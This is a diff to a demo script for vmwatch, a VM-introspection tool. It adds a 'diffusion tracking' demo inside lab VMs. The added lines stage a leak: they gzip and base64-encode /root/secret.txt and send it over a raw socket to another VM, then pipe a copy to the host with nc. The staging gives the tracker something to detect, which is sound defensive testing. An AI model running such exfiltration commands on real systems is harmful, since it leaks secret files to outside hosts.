@@ -2,7 +2,9 @@
 # The main job: boots two lab VMs (Debian's 6.1 and 6.12 kernels, KASLR on),
 # starts a small workload in each through the test agent, and shows what
 # vmwatch reads from their RAM from outside: where the kernel is, processes,
-# open files, sockets and modules. Leaves the VMs running with --keep.
+# open files, sockets and modules; then live syscalls through vmwatchd, and
+# the spread of a registered secret file across both VMs (diffusion
+# tracking). Leaves the VMs running with --keep.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 scripts/setup.sh
@@ -51,6 +53,35 @@ for vm in "${vms[@]}"; do
     $V lab exec "$vm" -- sh -c 'cp /root/secret.txt /root/copy.txt' >/dev/null
 done
 wait $tracer || true
+echo
+echo "================ diffusion: where demo-web's /root/secret.txt goes, across both VMs ================"
+echo "--- vmwatch track add --vm demo-web /root/secret.txt"
+$V track add --vm demo-web /root/secret.txt
+db_ip=$($V lab info demo-db | python3 -c 'import json,sys; print(json.load(sys.stdin)["network"]["lan_ip"])')
+# demo-db receives whatever arrives on port 9000 into a file; demo-web copies
+# its secret, compresses it through a pipeline, and sends it to demo-db and to
+# the host (a leak).
+python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 18099)); s.listen(1); s.settimeout(20); c,_=s.accept(); c.recv(65536)' &
+host_rx=$!
+$V lab exec demo-db -- sh -c 'setsid python3 -c "
+import socket
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind((\"0.0.0.0\", 9000)); s.listen(1); c, _ = s.accept()
+open(\"/root/from-web.txt\", \"wb\").write(c.recv(65536))
+" </dev/null >/dev/null 2>&1 &' >/dev/null
+sleep 1
+$V lab exec demo-web -- sh -c "
+cp /root/secret.txt /root/copy2.txt
+cat /root/secret.txt | gzip | base64 > /root/secret.b64
+python3 -c 'import socket; s = socket.create_connection((\"$db_ip\", 9000)); s.sendall(open(\"/root/secret.b64\", \"rb\").read()); s.close()'
+nc -w 2 10.0.2.2 18099 < /root/copy2.txt || true
+" >/dev/null
+wait $host_rx 2>/dev/null || true
+sleep 3
+echo "--- vmwatch diffusion log (both VMs: one line per newly managed object, removal, leak or flow)"
+$V diffusion log
+echo "--- vmwatch diffusion show --vm demo-db (the graph now; left objects marked)"
+$V diffusion show --vm demo-db
 echo "--- vmwatch daemon status"
 $V daemon status
 kill $daemon 2>/dev/null || true
